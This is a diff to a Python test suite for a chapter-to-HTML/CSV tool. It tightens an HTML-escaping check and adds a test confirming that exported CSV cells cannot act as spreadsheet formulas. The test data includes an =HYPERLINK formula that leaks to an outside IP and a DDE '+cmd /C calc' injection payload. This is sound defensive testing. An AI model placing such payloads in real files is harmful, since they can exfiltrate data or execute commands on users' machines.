@@ -68,7 +68,7 @@ def test_no_markup_from_the_chapter_reaches_the_html(boarded):
             assert "198.51.100.7" not in (value or "") and "passwd" not in (value or ""), tag
     # ... but the words are all there, as text.
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
-    assert "&lt;img src=" in html
+    assert "&lt;img " in html and "&lt;link " in html
     assert "http://198.51.100.7/cat.png" in html
 
 
@@ -197,3 +197,20 @@ def test_every_yaml_file_is_loaded_safely(tmp_path, monkeypatch, capsys, nlp):
     err = capsys.readouterr().err
     assert "layouts.yaml:1" in err and "Traceback" not in err
     assert not marker.exists()
+
+
+def test_csv_cells_from_the_chapter_cannot_be_spreadsheet_formulas(tmp_path, monkeypatch,
+                                                                   capsys, nlp):
+    import csv
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "ch.md").write_text(
+        '=HYPERLINK("http://198.51.100.7/?leak","click") the door opened.\n\n'
+        "+cmd|' /C calc'!A0 Mara walked in.\n\n@SUM(1+1) She sat down.\n\n"
+        "-2+3 was written on the wall.\n")
+    assert cli.main(["ch.md", "--format", "csv", "-q"]) == 0
+    capsys.readouterr()
+    rows = list(csv.reader((tmp_path / "out" / "ch" / "shots.csv").open(encoding="utf-8")))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "-", "\t", "\r")
+                and not c.lstrip("-").replace(".", "").isdigit()]
+    assert any(c.startswith("'+cmd") for c in cells)
